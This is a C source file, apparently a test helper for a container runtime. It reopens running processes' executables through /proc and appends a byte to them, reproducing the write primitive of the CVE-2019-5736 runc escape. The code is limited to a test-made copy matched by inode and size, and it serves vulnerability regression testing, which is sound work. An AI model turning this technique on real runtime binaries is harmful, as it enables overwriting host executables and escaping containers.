// spoil-exe INODE SIZE: until SIGTERM, looks at every process it can see, keeps those programs' files
// open that are the one file named by its number and size (a copy of the runtime that the test made,
// never a file of the machine; in an overlay only the low half of the number is the file's), and
// tries to append a byte to it, also after the process has gone (CVE-2019-5736).
// Prints "spoiled N of M": M files were seen.
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#define KEPT_MAX 256

static int kept[KEPT_MAX];
static int kept_count;
static unsigned long inode;
static long size;

static volatile sig_atomic_t ended;

static void end(int signal) {
  ended = signal;
}

static int is_wanted(int fd) {
  struct stat file;
  return fstat(fd, &file) == 0 && (unsigned)file.st_ino == (unsigned)inode && file.st_size == size;
}

static void collect(void) {
  DIR *proc = opendir("/proc");
  struct dirent *entry;
  while (proc && (entry = readdir(proc))) {
    char path[300];
    if (!isdigit((unsigned char)entry->d_name[0])) continue;
    snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    if (kept_count < KEPT_MAX && is_wanted(fd)) kept[kept_count++] = fd;
    else close(fd);
  }
  if (proc) closedir(proc);
}

static int spoil(void) {
  int spoiled = 0;
  for (int i = 0; i < kept_count; i++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
    int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0) continue;
    if (write(fd, "!", 1) == 1) spoiled++;
    close(fd);
  }
  return spoiled;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  int spoiled = 0;
  signal(SIGTERM, end);
  inode = strtoul(argv[1], 0, 10);
  size = strtol(argv[2], 0, 10);
  puts("looking");
  fflush(stdout);
  while (!ended) {
    collect();
    spoiled += spoil();
  }
  printf("spoiled %d of %d\n", spoiled, kept_count);
  return 0;
}
